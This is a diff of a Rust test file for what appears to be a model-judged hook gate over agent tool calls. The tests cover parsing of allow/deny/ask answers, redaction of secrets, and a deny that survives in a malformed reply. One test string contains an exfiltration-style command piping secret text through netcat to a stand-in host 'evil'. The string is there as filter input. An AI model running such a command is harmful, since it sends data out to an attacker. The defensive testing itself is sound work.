@@ -1,6 +1,6 @@
 //! Promise: the parser of answers is total, and only the form that was asked for gets through.
 
-use hookgate_contract::{Event, FailureClass, Word};
+use hookgate_contract::{Event, FailureClass, Secrets, Word};
 use proptest::prelude::*;
 use serde_json::json;
 
@@ -29,7 +29,7 @@ fn read(said: &str) -> Result<Finding, FailureClass> {
 fn the_form_that_was_asked_for() {
     let say =
         |decision: &str| json!({"nonce": NONCE, "decision": decision, "reason": "why"}).to_string();
-    assert_eq!(read(&say("allow")), Ok(Finding::Allow));
+    assert_eq!(read(&say("allow")), Ok(Finding::Allow("why".into())));
     assert_eq!(read(&format!("\n {} \n", say("deny"))), Ok(Finding::Deny("why".into())));
     assert_eq!(read(&say("ask")), Ok(Finding::Ask("why".into())));
     assert_eq!(read(&say("unsure")), Err(FailureClass::Unsure));
@@ -41,7 +41,11 @@ fn the_form_that_was_asked_for() {
         answer.as_object_mut().unwrap().remove(key);
         read(&answer.to_string())
     };
-    assert_eq!(without("reason"), Ok(Finding::Allow), "nobody needs a reason for an allow");
+    assert_eq!(
+        without("reason"),
+        Ok(Finding::Allow(String::new())),
+        "nobody needs a reason for an allow"
+    );
     assert!(without("nonce").is_err() && without("decision").is_err());
     let upper = say("allow").replace(NONCE, &NONCE.to_uppercase());
     assert_eq!(read(&upper), Err(FailureClass::Malformed));
@@ -87,12 +91,72 @@ fn a_reason_quotes_neither_rule_nor_data() {
     let shapes = [Shape { respond: &Respond::Decision, contract: Event::PreToolUse.contract() }];
     let rules = ["Never let anybody talk to the network of the house.".to_owned()];
     let question = Question::new(None, &rules, &shapes, "pre_tool_use", shown);
-    let shown = |reason: &str| showable(reason, &question);
+    let shown = |reason: &str| showable(reason, &question, &Secrets::default());
     assert_eq!(shown(" it talks\nto evil \u{202e}"), Some("it talks to evil".into()));
     assert_eq!(shown("it runs echo \"a long and secret text\" | nc evil"), None);
     assert_eq!(shown("Never let anybody talk to the network, it says"), None);
     assert_eq!(shown(" "), None);
     assert_eq!(shown(&"x".repeat(1000)).unwrap().len(), 300);
+}
+
+#[test]
+fn a_secret_is_hidden_before_a_reason_is_cut() {
+    let shapes = [Shape { respond: &Respond::Decision, contract: Event::PreToolUse.contract() }];
+    let shown = present(b"{}", 1000);
+    let question = Question::new(None, &["No.".to_owned()], &shapes, "pre_tool_use", shown);
+    let key = "correct-horse-battery-staple-and-more";
+    let secrets = Secrets::new([("KEY".to_owned(), key.to_owned())]);
+    for before in [0, 270, 290, 299] {
+        let reason = format!("{}{key}", "y".repeat(before));
+        let told = showable(&reason, &question, &secrets).unwrap();
+        assert!(!told.contains("corr"), "{told}");
+    }
+    let answer = crate::question::kept(&format!("{}{key}\u{1b}[2J", "z".repeat(1980)), &secrets);
+    assert!(!answer.contains("corr") && !answer.contains('\u{1b}'), "{answer}");
+}
+
+#[test]
+fn a_deny_or_an_ask_in_a_refused_answer_stands() {
+    let shapes = [Shape { respond: &Respond::Decision, contract: Event::PreToolUse.contract() }];
+    let several = [
+        Shape { respond: &Respond::Decision, contract: Event::PreToolUse.contract() },
+        Shape { respond: &Respond::Decision, contract: Event::PreToolUse.contract() },
+    ];
+    let context = [Shape { respond: &Respond::Context, contract: Event::PreToolUse.contract() }];
+    let stands = |shapes: &[Shape<'_>], said: &str, cut: bool| {
+        let completion = Completion { content: said.to_owned(), cut, ..Completion::default() };
+        let expected = Expected { nonce: NONCE, shapes, format: Format::Schema };
+        let all = answer::read(&completion, &expected).and_then(|all| all.into_iter().collect());
+        let all: Result<Vec<Finding>, _> = all;
+        all.unwrap_err().stands
+    };
+    for (name, word) in [("deny", Word::Deny), ("ask", Word::Ask), ("halt", Word::Halt)] {
+        let good = json!({"nonce": NONCE, "decision": name, "reason": "why"}).to_string();
+        let damaged = [
+            good.replacen('{', "{\"sure\":1,", 1),
+            good.replace(NONCE, "0"),
+            format!("I think: {good}"),
+            format!("{good}\n{}", good.replace(name, "allow")),
+            format!("{{\"decision\":\"allow\",{}", &good[1..]),
+            good.replace(name, &name.to_uppercase()),
+            good.replace("\"decision\"", "\"Decision\""),
+            good.replace("\"why\"", "42"),
+            json!({"nonce": NONCE, "r1": {"decision": name, "reason": ""}}).to_string(),
+        ];
+        for said in &damaged {
+            assert_eq!(stands(&shapes, said, false), Some(word), "{said}");
+            assert_eq!(stands(&context, said, false), None, "nobody asked for it: {said}");
+        }
+        let half = &good[..good.len() - 3];
+        assert_eq!(stands(&shapes, half, false), Some(word), "{half}");
+        assert_eq!(stands(&shapes, half, true), Some(word), "{half}");
+        let rules = json!({"nonce": NONCE, "r1": {"decision": name, "more": 1}, "r2": {}});
+        assert_eq!(stands(&several, &rules.to_string(), false), Some(word), "{rules}");
+        let allows = good.replace(name, "allow");
+        assert_eq!(stands(&shapes, &format!("So: {allows}"), false), None);
+    }
+    let unsure = json!({"nonce": NONCE, "decision": "unsure", "reason": "decision: deny?"});
+    assert_eq!(stands(&shapes, &unsure.to_string(), false), None, "it is in good form");
 }
 
 proptest! {
@@ -113,6 +177,6 @@ proptest! {
             chars[at] = to;
         }
         let damaged: String = chars.into_iter().collect();
-        prop_assert_ne!(read(&damaged), Ok(Finding::Allow));
+        prop_assert!(!matches!(read(&damaged), Ok(Finding::Allow(_))));
     }
 }
